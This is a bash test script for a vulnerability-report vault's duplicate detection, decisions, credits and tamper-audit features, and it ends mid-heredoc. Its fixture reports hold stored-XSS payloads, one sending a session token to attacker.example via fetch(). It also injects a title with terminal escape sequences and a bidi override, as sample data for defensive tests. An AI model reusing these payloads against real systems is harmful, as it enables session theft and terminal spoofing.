#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Duplicate detection end to end (issue 6, docs/dedup.md): reports of one
# bug written by two people, a different bug of the same package, an
# unrelated one and one sharing an attachment are imported (import names
# the likely duplicates); dups lists the candidates best first, with their
# reasons (human and --json, --all, --limit); dup records a decision
# (following a duplicate to its original), status duplicate needs it,
# undup takes it back; every refusal says why in one line and changes
# nothing; credits name a duplicate's reporter as an independent finder
# of the original (not a reporter re-sending); audit catches a forged
# decision and a tampered index, and a ledger of schema version 3 is
# upgraded.
. "$(dirname "$0")/vault_lib.sh"

HERE="$(cd "$(dirname "$0")" && pwd)"
ATTACK="$HERE/ledger_attack.py"
attack() { "$PY" "$ATTACK" "$@"; }

M=$(gen_key maintainer) || { echo "Bail out! cannot generate keys"; exit 1; }
KA=$(gen_key alice none)
KB=$(gen_key bob none)
KC=$(gen_key carol none)
KE=$(gen_key erin none)
KF=$(gen_key frank none)
check "test keys were generated (the vault's and five reporters')" \
    test -n "$M" -a -n "$KA" -a -n "$KB" -a -n "$KC" -a -n "$KE" -a -n "$KF"

av() { local v=$1; shift; run "$VAULT_BIN" --vault "$v" "$@"; }
nevents() { ledger "$1" "SELECT count(*) FROM events"; }
col() { ledger "$1" "SELECT $3 FROM reports WHERE id = ?" "$2"; }
exit0() { [ "$RC" -eq 0 ] && "$@"; }
# last_event VAULT KIND: the newest event of KIND as "report data".
last_event() { ledger "$1" "SELECT report || ' ' || data FROM events WHERE kind = ? ORDER BY seq DESC LIMIT 1" "$2"; }
audit_ok() { av "$1" audit && [ "$RC" -eq 0 ] && out_has "audit: ok"; }

A=a1a1a1a1-1111-4111-8111-111111111111
B=b2b2b2b2-2222-4222-9222-222222222222
C=c3c3c3c3-3333-4333-a333-333333333333
D=d4d4d4d4-4444-4444-b444-444444444444
E=e5e5e5e5-5555-4555-8555-555555555555
G=f7f7f7f7-7777-4777-8777-777777777777
H=a8a8a8a8-8888-4888-9888-888888888888
I=b9b9b9b9-9999-4999-a999-999999999999

# ---- the reports --------------------------------------------------------------
# A and B: one bug (a stored XSS in private notes), two reporters, their
# own words, the same identifiers and affected versions.  C: another XSS
# in the same package (contact names on the CSAT report).  D: unrelated.
# E: other words, but A's proof of concept file.  G: the A bug a third
# time (for following).  H: Alice re-sending A under a new id; I: Bob
# re-sending B.
P="$WORK/poc.html"
printf '<img src=x onerror=alert(localStorage.auth)>\n' >"$P"

T_A="Stored XSS in private notes through the content field"
D_A='Private notes are stored as raw HTML. The `content` field of POST
/api/v1/accounts/{account_id}/conversations/{conversation_id}/messages with
`private: true` is saved as it is, and NoteBubble.vue renders it with v-html.
Any agent can plant a script that runs in the browser of every agent who
opens the conversation, administrators included, and reads their session
from localStorage.

Tested on Chatwoot 4.1.2.'
S_A='1. Log in as an agent.
2. POST /api/v1/accounts/1/conversations/7/messages with
   {"content": "<img src=x onerror=alert(localStorage.auth)>", "private": true}
3. Open conversation 7 as an administrator: the alert shows the session.'

T_B="Script injection via private note content (NoteBubble.vue v-html)"
D_B='NoteBubble.vue displays private notes with v-html, and nothing sanitises
the `content` an agent sends to
/api/v1/accounts/{account_id}/conversations/{conversation_id}/messages. A
low-privileged agent can therefore execute JavaScript as any administrator
who views the thread, and take over the account with the token kept in
localStorage.auth. Confirmed on 4.1.2.'
S_B="- Create a private note whose content is <svg onload=fetch('https://attacker.example/?'+localStorage.auth)>
- Wait for an administrator to open the conversation
- The token arrives at attacker.example"

T_C="Stored XSS in contact names on the CSAT report page"
D_C='A contact can set their name through the website widget to markup such
as <svg onload=alert(1)>. The CSAT responses table in the reports section
(CsatTable.vue) builds its rows with innerHTML, so the script runs when an
administrator opens Reports > CSAT. The conversation view escapes the name
correctly.'
S_C='1. Open the website widget and set the name to <svg onload=alert(document.domain)>.
2. Answer the CSAT survey after the conversation is resolved.
3. As an administrator, open Reports > CSAT.'
AFF_C='[{"package": {"ecosystem": "npm", "name": "chatwoot"}, "ranges": [{"type": "SEMVER", "events": [{"introduced": "3.10.0"}, {"fixed": "4.2.3"}]}]}]'

T_D="Password reset tokens never expire"
D_D='A password reset link keeps working after it has been used, and after the
password was changed again: reset_password_token is only cleared on sign-in.
Anyone who once received a reset e-mail can take the account back later.'
S_D='Request a reset, use the link, change the password a second time, then
open the first link again: it still sets a new password.'
AFF_D='[{"package": {"ecosystem": "RubyGems", "name": "devise_token_auth"}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.2.3"}]}]}]'

T_E="Agent to admin script execution in the dashboard"
D_E='While testing the dashboard I found that HTML sent by an agent is executed
for administrators. See the attached proof of concept.'
S_E='Send the attached file as a private message, then open it as an admin.'

T_G="XSS in Chatwoot private notes"
D_G='The content of a private note is rendered with v-html in NoteBubble.vue
without sanitising, so markup posted to
/api/v1/accounts/{account_id}/conversations/{conversation_id}/messages runs
for every agent who reads it. Version 4.1.2.'
S_G='Post a private note with <img src=x onerror=alert(1)> and open the
conversation from another agent account.'

mkrep() {
    local out=$1 id=$2 title=$3 desc=$4 steps=$5 who=$6 key=$7 contact=$8
    shift 8
    mkb good "$out" --to "$M" --id "$id" --title "$title" --description "$desc" \
        --steps "$steps" --reporter "$who" ${key:+--sign "$key"} \
        --set "reporter.contact=\"$contact\"" "$@"
}
{
    mkrep "$WORK/a.gpg" $A "$T_A" "$D_A" "$S_A" "Alice Archer" "$KA" alice@example.net \
        --attach "poc.html=@$P" &&
    mkrep "$WORK/b.gpg" $B "$T_B" "$D_B" "$S_B" "Bob Brown" "$KB" bob@example.com \
        --attach "request.txt=POST /api/v1/accounts/1/conversations/7/messages HTTP/1.1" &&
    mkrep "$WORK/c.gpg" $C "$T_C" "$D_C" "$S_C" "Carol Chen" "$KC" carol@example.org \
        --set "affected=$AFF_C" &&
    mkrep "$WORK/d.gpg" $D "$T_D" "$D_D" "$S_D" "Dave Dunn" "" dave@example.org \
        --set 'class="auth-bypass"' --set 'cwe=["CWE-640"]' --set "affected=$AFF_D" \
        --unset severity &&
    mkrep "$WORK/e.gpg" $E "$T_E" "$D_E" "$S_E" "Erin Eze" "$KE" erin@example.org \
        --attach "poc.html=@$P" --attach "empty.txt=" &&
    mkrep "$WORK/g.gpg" $G "$T_G" "$D_G" "$S_G" "Frank Fox" "$KF" frank@example.org &&
    mkrep "$WORK/h.gpg" $H "$T_A (resent)" "$D_A" "$S_A" "Alice Archer" "$KA" alice@example.net &&
    mkrep "$WORK/i.gpg" $I "$T_B" "$D_B" "$S_B" "Bob Brown" "$KB" bob@example.com
} || { echo "Bail out! mkbundle failed"; exit 1; }

V="$WORK/v"
vault_init "$V" "$M" || { echo "Bail out! vault init failed"; exit 1; }

# ---- import names the likely duplicates ------------------------------------------
av "$V" import "$WORK/a.gpg"
check "import: the first report has no duplicate to name" \
    exit0 grep -qxF "$WORK/a.gpg: imported $A \"$T_A\"" "$WORK/out"
av "$V" import "$WORK/b.gpg"
# B tells A's bug in other words: in a vault this small that is a possible
# duplicate (the dups checks below), and import names only the likely ones
check "import: a possible duplicate is not named at import, one line" \
    exit0 eval '[ "$(cat "$WORK/out")" = "$WORK/b.gpg: imported $B \"$T_B\"" ]'
av "$V" import --json "$WORK/c.gpg" "$WORK/d.gpg" "$WORK/e.gpg"
cp "$WORK/out" "$WORK/import.json"
check "import --json: every result has a duplicates list" \
    exit0 json_check "$WORK/import.json" 'len(d) == 3 and all(isinstance(r["duplicates"], list) and r["status"] == "imported" for r in d)'
check "import --json: the report sharing A's attachment lists A, score 0.99 or more" \
    json_check "$WORK/import.json" '[x["report"] for x in d[2]["duplicates"]][:1] == ["'$A'"] and d[2]["duplicates"][0]["score"] >= 0.99 and set(d[2]["duplicates"][0]) <= {"report", "score", "via"}'
check "import --json: the unrelated report lists none" \
    json_check "$WORK/import.json" 'd[1]["report"] == "'$D'" and d[1]["duplicates"] == []'
check "import --json: another bug of the same package and class is not a likely duplicate of A or B" \
    json_check "$WORK/import.json" 'd[0]["report"] == "'$C'" and not {x["report"] for x in d[0]["duplicates"]} & {"'$A'", "'$B'"}'
[ "$(json_get "$WORK/import.json" 'd[0]["duplicates"]')" = "[]" ] ||
    echo "# C's duplicates: $(json_get "$WORK/import.json" 'd[0]["duplicates"]')"

# ---- dups: the candidates, best first, and why ----------------------------------
av "$V" dups b2b2b2b2
cp "$WORK/out" "$WORK/dups-b.txt"
check "dups: the header names the report and the count" \
    exit0 grep -qE '^report b2b2b2b2: [0-9]+ candidates?, best first$' "$WORK/dups-b.txt"
check "dups: A first, possible, earlier, its title" \
    grep -qE "^  a1a1a1a1  0\.(3[0-9]|4[0-9]|5[0-9])  possible  earlier  $T_A\$" <(sed -n 2p "$WORK/dups-b.txt")
check "dups: the structural reason names the package, versions, class and CWE" \
    grep -qE '^      structural: same package npm/chatwoot; [0-9]+ versions? in common; same class xss; in both: CWE-79$' "$WORK/dups-b.txt"
check "dups: the textual reason gives the similarity" \
    grep -qE '^      textual: text similarity 0\.[0-9]{2} \(idf-weighted cosine of title, description and steps\)' "$WORK/dups-b.txt"
# first_block FILE: the reason lines of the first candidate
first_block() { awk 'NR > 2 && /^  [0-9a-f]{8}  / {exit} NR > 2 {print}' "$1"; }
check "dups: no exact reason without a shared file, no reporter reason for two reporters" \
    eval '[ -n "$(first_block "$WORK/dups-b.txt")" ] && ! first_block "$WORK/dups-b.txt" | grep -qE "^      (exact|reporter):"'
av "$V" dups b2b2b2b2 --json
cp "$WORK/out" "$WORK/dups-b.json"
check "dups --json: report, title, score, verdict, earlier, same_reporter, reasons; no features" \
    exit0 json_check "$WORK/dups-b.json" 'd[0]["report"] == "'$A'" and d[0]["title"] == "'"$T_A"'" and d[0]["verdict"] == "possible" and d[0]["earlier"] is True and d[0]["same_reporter"] is False and "features" not in d[0] and "via" not in d[0] and set(d[0]) == {"report", "title", "score", "verdict", "earlier", "same_reporter", "reasons"}'
check "dups --json: one reason per axis that spoke, {axis, score, why}, in axis order" \
    json_check "$WORK/dups-b.json" '[r["axis"] for r in d[0]["reasons"]] == ["structural", "textual"] and all(set(r) == {"axis", "score", "why"} and 0 <= r["score"] <= 1 for r in d[0]["reasons"])'
check "dups --json: best first, every verdict the one its score gives (possible from 0.30, likely from 0.60)" \
    json_check "$WORK/dups-b.json" '[x["score"] for x in d] == sorted([x["score"] for x in d], reverse=True) and all(x["verdict"] == ("likely" if x["score"] >= 0.6 else "possible") and 0.30 <= x["score"] <= 1 for x in d)'
[ -z "${AL_VERBOSE:-}" ] || sed 's/^/#   dups b2b2b2b2: /' "$WORK/dups-b.txt"
check "dups: the candidates' scores go down" \
    eval 'grep -oE "^  [0-9a-f]{8}  [01]\.[0-9]{2}" "$WORK/dups-b.txt" | awk "{print \$2}" | sort -rnc'
check "dups --json: the human output lists the same candidates" \
    [ "$(grep -cE '^  [0-9a-f]{8}  ' "$WORK/dups-b.txt")" = "$(json_get "$WORK/dups-b.json" 'len(d)')" ]
check "dups --json: the score is the human one, rounded" \
    grep -qF "  a1a1a1a1  $(json_get "$WORK/dups-b.json" '"%.2f" % d[0]["score"]')  " "$WORK/dups-b.txt"

av "$V" dups b2b2b2b2 --json --all
cp "$WORK/out" "$WORK/dups-all.json"
check "dups --all: every candidate scored, with its features, verdict null allowed" \
    exit0 json_check "$WORK/dups-all.json" 'len(d) >= 2 and all(set(x["features"]) == {"text", "rare", "vshare", "vdisjoint", "rdisjoint", "package", "class", "cwe"} for x in d) and all(x["verdict"] in ("likely", "possible", None) for x in d)'
check "dups --all: candidates below possible are listed with verdict null" \
    json_check "$WORK/dups-all.json" 'any(x["verdict"] is None and x["score"] < 0.30 for x in d) and len(d) > len(json.load(open("'"$WORK/dups-b.json"'")))'
check "dups --all: the features of A say same package, class and CWE" \
    json_check "$WORK/dups-all.json" '[x for x in d if x["report"] == "'$A'"][0]["features"]["package"] == 1 and [x for x in d if x["report"] == "'$A'"][0]["features"]["class"] == 1 and [x for x in d if x["report"] == "'$A'"][0]["features"]["cwe"] == 1'
av "$V" dups b2b2b2b2 --json --all --limit 1
check "dups --limit 1: one candidate, the best" \
    exit0 json_check "$WORK/out" 'len(d) == 1 and d[0]["report"] == "'$A'"'
av "$V" dups b2b2b2b2 --all --limit 0 --json
check "dups --limit 0: no limit" \
    exit0 json_check "$WORK/out" 'len(d) == len(json.load(open("'"$WORK/dups-all.json"'")))'

av "$V" dups a1a1a1a1
check "dups of the earlier report: the later one is listed, as later" \
    exit0 grep -qE '^  b2b2b2b2  0\.[3-5][0-9]  possible  later    ' "$WORK/out"
av "$V" dups e5e5e5e5
check "dups: a shared attachment is exact, 0.99" \
    exit0 grep -qE '^  a1a1a1a1  (0\.99|1\.00)  likely    earlier  ' "$WORK/out"
check "dups: the exact reason names the attachment (not the empty file)" \
    grep -qxF "      exact: an attachment in both: attachments/poc.html" "$WORK/out"
av "$V" dups d4d4d4d4
check "dups of the unrelated report: none" \
    exit0 grep -qxF "report d4d4d4d4: no likely or possible duplicate" "$WORK/out"
av "$V" dups c3c3c3c3 --json
check "dups: another XSS of the same package is not likely (similar != same)" \
    exit0 json_check "$WORK/out" 'not [x for x in d if x["verdict"] == "likely" and x["report"] in ("'$A'", "'$B'")]'
[ "$RC" -ne 0 ] || echo "# C's candidates: $(json_get "$WORK/out" '[(x["report"][:8], x["score"], x["verdict"]) for x in d]')"

# a title with control characters (a ledger edited by hand: import refuses
# them) is shown with the characters made visible
X="$WORK/ctl"
cp -a "$V" "$X"
attack "$X" sql "UPDATE reports SET title = 'Evil '||char(27)||'[2J'||char(27)||']0;pwned'||char(7)||' title '||char(8238)||'gnp.exe' WHERE id = '$A'"
av "$X" dups b2b2b2b2
check "dups: control and bidi characters in a title are made visible" \
    exit0 outputs_clean
check "dups: the escape is shown as text" \
    grep -qF 'Evil \x1b[2J\x1b]0;pwned\x07 title ' "$WORK/out"

refused_cmd "dups of an unknown report" "$V" 1 "no report '99999999'" -- \
    "$VAULT_BIN" --vault "$V" dups 99999999
refused_cmd "dups --limit must be a number" "$V" 2 "--limit: a number from 0 to 100000" -- \
    "$VAULT_BIN" --vault "$V" dups b2b2b2b2 --limit ten
refused_cmd "dups --limit -1" "$V" 2 "--limit: a number from 0 to 100000" -- \
    "$VAULT_BIN" --vault "$V" dups b2b2b2b2 --limit -1
before=$(vstate "$V")
av "$V" dups
check "dups without an id: exit 2, the usage on stderr, nothing changed" \
    eval '[ "$RC" -eq 2 ] && err_has "usage: airlock-vault [--vault DIR] dups ID" && [ ! -s "$WORK/out" ] && [ "$(vstate "$V")" = "$before" ]'

# ---- dup: the decision ----------------------------------------------------------
n=$(nevents "$V")
av "$V" dup b2b2b2b2 --of a1a1a1a1
check "dup: recorded, and says how to close" \
    exit0 grep -qxF "report b2b2b2b2: recorded as a duplicate of a1a1a1a1; close it with 'airlock-vault status b2b2b2b2 duplicate'" "$WORK/out"
check "dup: one duplicate event {\"of\": A}, then the closing checkpoint" \
    [ "$(last_event "$V" duplicate)" = "$B {\"of\":\"$A\"}" -a "$(nevents "$V")" = $((n + 2)) ]
check "dup: the report row names its original" [ "$(col "$V" $B duplicate_of)" = "$A" ]
check "dup: the report keeps its state until closed" [ "$(col "$V" $B state)" = new ]
av "$V" show b2b2b2b2 --json
check "show --json: duplicate_of" exit0 json_check "$WORK/out" 'd["triage"]["duplicate_of"] == "'$A'"'

# the earlier report's dups shows B as itself (its original is A)
av "$V" dups a1a1a1a1 --json
check "dups of the original: its recorded duplicate is listed, without via" \
    exit0 json_check "$WORK/out" '[x for x in d if x["report"] == "'$B'" and "via" not in x]'

# following: G duplicates B, which is A's duplicate: A is recorded
av "$V" import "$WORK/g.gpg"
av "$V" dups f7f7f7f7 --json
check "dups: a candidate recorded as a duplicate is shown as its original" \
    exit0 json_check "$WORK/out" '"'$B'" not in [x["report"] for x in d] and "'$A'" in [x["report"] for x in d]'
check "dups: via names the duplicate found, when it scored best" \
    json_check "$WORK/out" 'all(x.get("via") in (None, "'$B'") for x in d if x["report"] == "'$A'")'
cp "$WORK/out" "$WORK/dups-g.json"
av "$V" dups f7f7f7f7
[ -z "${AL_VERBOSE:-}" ] || sed 's/^/#   dups f7f7f7f7: /' "$WORK/out"
if json_check "$WORK/dups-g.json" '[x for x in d if x.get("via")]'; then
    check "dups: the via line under the original" \
        grep -qxF "      via b2b2b2b2, recorded as its duplicate" "$WORK/out"
else
    check "dups: no via line when the original scored best itself" \
        eval '! grep -q "^      via " "$WORK/out"'
fi
av "$V" dup f7f7f7f7 --of b2b2b2b2 --json
check "dup --json: report, of (the original), via" \
    exit0 json_check "$WORK/out" 'd == {"report": "'$G'", "of": "'$A'", "via": "'$B'"}'
check "dup of a duplicate records its original" \
    [ "$(last_event "$V" duplicate)" = "$G {\"of\":\"$A\"}" ]

# ---- refusals: one line, exit status, nothing changed ---------------------------
refused_cmd "dup without --of" "$V" 2 "dup needs --of ID2: the report it duplicates" -- \
    "$VAULT_BIN" --vault "$V" dup c3c3c3c3
refused_cmd "dup of itself" "$V" 1 "--of: a report cannot duplicate itself" -- \
    "$VAULT_BIN" --vault "$V" dup c3c3c3c3 --of c3c3c3c3
refused_cmd "dup --of an unknown report" "$V" 1 "no report '99999999'" -- \
    "$VAULT_BIN" --vault "$V" dup c3c3c3c3 --of 99999999
refused_cmd "dup of an unknown report" "$V" 1 "no report '99999999'" -- \
    "$VAULT_BIN" --vault "$V" dup 99999999 --of a1a1a1a1
refused_cmd "the earlier report is the original" "$V" 1 \
    "--of: report c3c3c3c3 came after a1a1a1a1: the earlier report is the original ('airlock-vault dup c3c3c3c3 --of a1a1a1a1')" -- \
    "$VAULT_BIN" --vault "$V" dup a1a1a1a1 --of c3c3c3c3
refused_cmd "an original imported later (E after C)" "$V" 1 \
    "the earlier report is the original" -- \
    "$VAULT_BIN" --vault "$V" dup c3c3c3c3 --of e5e5e5e5
refused_cmd "a report with a decision already" "$V" 1 \
    "report b2b2b2b2 is recorded as a duplicate of a1a1a1a1 already ('airlock-vault undup b2b2b2b2' takes it back)" -- \
    "$VAULT_BIN" --vault "$V" dup b2b2b2b2 --of a1a1a1a1
refused_cmd "a cycle: the original recorded as a duplicate of its duplicate" "$V" 1 \
    "--of: report b2b2b2b2 is recorded as a duplicate of a1a1a1a1 itself" -- \
    "$VAULT_BIN" --vault "$V" dup a1a1a1a1 --of b2b2b2b2
refused_cmd "a cycle through following" "$V" 1 \
    "--of: report f7f7f7f7 is recorded as a duplicate of a1a1a1a1 itself" -- \
    "$VAULT_BIN" --vault "$V" dup a1a1a1a1 --of f7f7f7f7
av "$V" status d4d4d4d4 spam
check "D closed as spam" exit0 [ "$(col "$V" $D state)" = spam ]
refused_cmd "a closed report" "$V" 1 "report d4d4d4d4 is spam (closed): reopen it first" -- \
    "$VAULT_BIN" --vault "$V" dup d4d4d4d4 --of a1a1a1a1
refused_cmd "status duplicate without a decision" "$V" 1 \
    "report c3c3c3c3 has no duplicate decision: record it first with 'airlock-vault dup c3c3c3c3 --of ID2' ('airlock-vault dups c3c3c3c3' lists candidates)" -- \
    "$VAULT_BIN" --vault "$V" status c3c3c3c3 duplicate
refused_cmd "status duplicate --of that disagrees with the decision" "$V" 1 \
    "--of: report f7f7f7f7 is recorded as a duplicate of a1a1a1a1, not of c3c3c3c3" -- \
    "$VAULT_BIN" --vault "$V" status f7f7f7f7 duplicate --of c3c3c3c3
refused_cmd "a report with a decision does not close as spam" "$V" 1 \
    "report b2b2b2b2 is recorded as a duplicate of a1a1a1a1: it closes as duplicate, or 'airlock-vault undup b2b2b2b2' first" -- \
    "$VAULT_BIN" --vault "$V" status b2b2b2b2 spam
refused_cmd "nor as withdrawn" "$V" 1 "it closes as duplicate" -- \
    "$VAULT_BIN" --vault "$V" status b2b2b2b2 withdrawn
refused_cmd "undup of a report without a decision" "$V" 1 \
    "report c3c3c3c3 is not recorded as a duplicate" -- \
    "$VAULT_BIN" --vault "$V" undup c3c3c3c3
refused_cmd "undup of an unknown report" "$V" 1 "no report '99999999'" -- \
    "$VAULT_BIN" --vault "$V" undup 99999999
refused_cmd "undup with a two-line reason" "$V" 2 "--reason: one line of text" -- \
    "$VAULT_BIN" --vault "$V" undup b2b2b2b2 --reason $'two\nlines'
check "audit passes after the refusals" audit_ok "$V"

# ---- status duplicate, undup -------------------------------------------------------
av "$V" status b2b2b2b2 duplicate
check "status duplicate with a decision closes the report" \
    exit0 [ "$(col "$V" $B "state || ' ' || duplicate_of || ' ' || (closed_t IS NOT NULL)")" = "duplicate $A 1" ]
check "the status event names the original" \
    [ "$(last_event "$V" status)" = "$B {\"from\":\"new\",\"of\":\"$A\",\"to\":\"duplicate\"}" ]
av "$V" status f7f7f7f7 duplicate --of b2b2b2b2
check "status duplicate --of the duplicate it was found through agrees" \
    exit0 [ "$(col "$V" $G "state || ' ' || duplicate_of")" = "duplicate $A" ]
refused_cmd "dup of a report closed as duplicate" "$V" 1 \
    "report b2b2b2b2 is recorded as a duplicate of a1a1a1a1 already" -- \
    "$VAULT_BIN" --vault "$V" dup b2b2b2b2 --of a1a1a1a1
n=$(nevents "$V")
av "$V" undup b2b2b2b2 --reason "another bug after all"
check "undup: reopens a report closed as duplicate to acknowledged" \
    exit0 out_has "report b2b2b2b2: no longer recorded as a duplicate; duplicate -> acknowledged"
check "undup: the decision is cleared" \
    [ "$(col "$V" $B "state || ' ' || coalesce(duplicate_of, '-')")" = "acknowledged -" ]
check "undup: one event naming the original and the move, then the checkpoint" \
    [ "$(ledger "$V" "SELECT json_extract(data, '\$.of') || ' ' || json_extract(data, '\$.from') || ' ' || json_extract(data, '\$.to') || ' ' || (json_extract(data, '\$.reason_sha256') IS NOT NULL) FROM events WHERE kind = 'undup'")" = "$A duplicate acknowledged 1" -a "$(nevents "$V")" = $((n + 2)) ]
av "$V" undup f7f7f7f7 --json
check "undup --json: the move" \
    exit0 json_check "$WORK/out" 'd == {"report": "'$G'", "from": "duplicate", "to": "acknowledged"}'
av "$V" dup f7f7f7f7 --of a1a1a1a1
av "$V" undup f7f7f7f7
check "undup of a report with a decision, not closed: no move" \
    exit0 [ "$(cat "$WORK/out")" = "report f7f7f7f7: no longer recorded as a duplicate" ]
av "$V" dup b2b2b2b2 --of a1a1a1a1
check "after undup, a new decision can be recorded" exit0 [ "$(col "$V" $B duplicate_of)" = "$A" ]
av "$V" dup f7f7f7f7 --of b2b2b2b2
check "audit passes after the decisions" audit_ok "$V"

# ---- credits: the reporter of a duplicate is an independent finder -----------------
av "$V" import "$WORK/h.gpg" "$WORK/i.gpg"
check "import: the import's own line, then one naming the likely duplicate with its score" \
    exit0 eval '[ "$(sed -n 1p "$WORK/out")" = "$WORK/h.gpg: imported $H \"$T_A (resent)\"" ] &&
        sed -n 2p "$WORK/out" | grep -qE "^  likely duplicate of a1a1a1a1 \((0\.[6-9][0-9]|1\.00)\)[ ,]" &&
        sed -n 2p "$WORK/out" | grep -qE "\(airlock-vault dups\)\$" &&
        [ "$(sed -n 3p "$WORK/out" | cut -d" " -f1-3)" = "$WORK/i.gpg: imported $I" ]'
av "$V" dups a8a8a8a8 --json
check "dups: a re-send by the same reporter is said, same_reporter" \
    exit0 json_check "$WORK/out" '[x for x in d if x["report"] == "'$A'" and x["same_reporter"] and [r for r in x["reasons"] if r["axis"] == "reporter" and r["why"].startswith("same signing key ") and r["why"].endswith(": a re-send, not another finder")]]'
av "$V" dups a8a8a8a8
check "dups: the reporter line in the human output" \
    exit0 grep -qE '^      reporter: same signing key [0-9A-F]{16}: a re-send, not another finder$' "$WORK/out"
av "$V" dup a8a8a8a8 --of a1a1a1a1
av "$V" dup b9b9b9b9 --of b2b2b2b2
check "the re-sends are recorded as duplicates of A" \
    exit0 [ "$(col "$V" $H duplicate_of)/$(col "$V" $I duplicate_of)" = "$A/$A" ]
for step in "ack a1a1a1a1" "triage a1a1a1a1 --rating high" "status a1a1a1a1 fixing" \
    "status a1a1a1a1 fixed --version 4.2.1"; do
    # shellcheck disable=SC2086
    av "$V" $step
    [ "$RC" -eq 0 ] || echo "# $step: $(cat "$WORK/err")"
done
check "the original is fixed" [ "$(col "$V" $A "state || ' ' || fixed_version")" = "fixed 4.2.1" ]
av "$V" export credits --json
cp "$WORK/out" "$WORK/credits.json"
check "credits: Alice is the finder of A" \
    exit0 json_check "$WORK/credits.json" '[(r["report"], r["role"]) for g in d if g["name"] == "Alice Archer" for r in g["reports"]] == [("'$A'", "finder")]'
check "credits: Bob (B's reporter: another key, name and contact) is an independent finder of A" \
    json_check "$WORK/credits.json" '("'$A'", "independent finder", "fixed", "4.2.1") in [(r["report"], r["role"], r["state"], r["fixed_version"]) for g in d if g["name"] == "Bob Brown" for r in g["reports"]]'
check "credits: Frank (recorded through B) is an independent finder of A" \
    json_check "$WORK/credits.json" '[(r["report"], r["role"]) for g in d if g["name"] == "Frank Fox" for r in g["reports"]] == [("'$A'", "independent finder")]'
check "credits: Alice re-sending A is not listed again" \
    json_check "$WORK/credits.json" 'len([g for g in d if g["name"] == "Alice Archer"]) == 1 and len([g for g in d if g["name"] == "Alice Archer"][0]["reports"]) == 1'
BOB=$(json_get "$WORK/credits.json" '[(r["report"][:8], r["role"]) for g in d if g["name"] == "Bob Brown" for r in g["reports"]]')
check "credits: Bob re-sending B (I, also A's duplicate) is not listed twice for A" \
    [ "$BOB" = "[('a1a1a1a1', 'independent finder')]" ]
[ "$BOB" = "[('a1a1a1a1', 'independent finder')]" ] || echo "# Bob's credits: $BOB"
check "credits: no duplicate report is credited as found (they are not fixed)" \
    json_check "$WORK/credits.json" 'not [r for g in d for r in g["reports"] if r["report"] in ("'$B'", "'$G'", "'$H'", "'$I'")]'
av "$V" export credits
check "credits (text): the independent finder is named as such" \
    exit0 grep -qF "(independent finder)" "$WORK/out"
check "audit passes after the credits" audit_ok "$V"

# ---- forged decisions and a tampered index are caught ---------------------------------
forged "a forged decision naming a later report as the original" \
    duplicate $C '{"of": "'$G'"}' "" -- "(duplicate): its original is not earlier in the ledger"
forged "a forged decision naming a report the ledger does not have" \
    duplicate $C '{"of": "99999999-9999-4999-8999-999999999999"}' "" -- \
    "(duplicate): it names a report the ledger does not have"
forged "a forged decision naming the report itself" \
    duplicate $C '{"of": "'$C'"}' "" -- "(duplicate): its data does not name another report as of"
forged "a forged second decision" \
    duplicate $B '{"of": "'$C'"}' "" -- "(duplicate): its report has a decision already or is closed"
forged "a forged decision naming a duplicate as the original" \
    duplicate $C '{"of": "'$B'"}' "" -- "(duplicate): its original is recorded as a duplicate itself"
# a close as duplicate with no decision, naming a later report (what
# 'status duplicate' refuses): the derived rows made to agree by the
# vault itself (the schema version set back, so the next command
# rebuilds them from the events), then the explicit checkpoint, which
# checks each event it signs, must refuse it
X="$WORK/forged-status"
cp -a "$V" "$X"
forge "$X" status $C '{"from": "new", "to": "duplicate", "of": "'$G'"}'
attack "$X" user-version 3
av "$X" list
av "$X" checkpoint
check "a forged close as duplicate of a later report, without a decision: checkpoint refuses to sign it" \
    eval '[ "$RC" -eq 3 ] && err_has "(status): "'
[ "$RC" -eq 3 ] || echo "# checkpoint exit $RC: $(cat "$WORK/out" "$WORK/err" | head -3)"
forged "a forged undup naming another original" \
    undup $B '{"of": "'$C'", "from": "acknowledged", "to": "acknowledged"}' "" -- \
    "(undup): its report is not recorded as a duplicate of of"
forged "a forged undup with a move the report does not make" \
    undup $B '{"of": "'$A'", "from": "duplicate", "to": "acknowledged"}' "" -- \
    "(undup): its from or to is not the report's move"

# the decision's event edited in place (triggers dropped and re-created,
# the bytes and leaf consistent): the original becomes a later report;
# audit names it (the first thing wrong: the event, or the checkpoint
# whose root no longer matches)
X="$WORK/edited"
cp -a "$V" "$X"
SEQ_DUP=$(ledger "$V" "SELECT seq FROM events WHERE kind = 'duplicate' AND report = ? ORDER BY seq DESC LIMIT 1" "$B")
attack "$X" edit "$SEQ_DUP" "data.of=\"$I\"" --sql "UPDATE reports SET duplicate_of = '$I' WHERE id = '$B'"
av "$X" audit
check "an edited decision naming a later report: audit refuses it (exit 3)" \
    eval '[ "$RC" -eq 3 ] && { err_has "event $SEQ_DUP (duplicate): its original is not earlier in the ledger" || err_has "its root is not the root of events"; }'

X="$WORK/postings"
cp -a "$V" "$X"
attack "$X" sql "DELETE FROM dedup_postings WHERE (term, doc) IN (SELECT term, doc FROM dedup_postings ORDER BY term DESC LIMIT 1)"
audit_refused "a posting deleted from the duplicate index" "$X" "duplicate index posting of term "
X="$WORK/postings2"
cp -a "$V" "$X"
attack "$X" sql "INSERT INTO dedup_postings (term, doc) VALUES (12345, (SELECT doc FROM dedup_docs WHERE report = '$C'))"
audit_refused "a posting added to the duplicate index" "$X" \
    "duplicate index posting of term 12345 is in the dedup_postings table, but no event makes it"
X="$WORK/terms"
cp -a "$V" "$X"
attack "$X" sql "UPDATE dedup_terms SET df = df + 1 WHERE term = (SELECT min(term) FROM dedup_terms)"
audit_refused "a document frequency changed" "$X" "duplicate index term " "not what its events say"
X="$WORK/files"
cp -a "$V" "$X"
attack "$X" sql "DELETE FROM dedup_files"
audit_refused "an attachment taken out of the duplicate index" "$X" \
    "duplicate index attachment " "is missing from the dedup_files table"
X="$WORK/docs"
cp -a "$V" "$X"
attack "$X" sql "UPDATE dedup_docs SET sketch = NULL WHERE report = '$A'"
audit_refused "a report's sketch taken out of the index" "$X" "duplicate index document "
X="$WORK/sketch"
cp -a "$V" "$X"
attack "$X" sql "UPDATE sketches SET data = X'414C543100000000' WHERE sha256 = (SELECT sketch FROM dedup_docs WHERE report = '$C')"
audit_refused "a sketch changed: not its hash" "$X" "sketches: the row '" "does not hold what its hash names"

# ---- a ledger of schema version 3 is upgraded ------------------------------------
cp -a "$V" "$WORK/v3"
"$PY" - "$WORK/v3/ledger.sqlite" <<'PY'
import sqlite3, sys
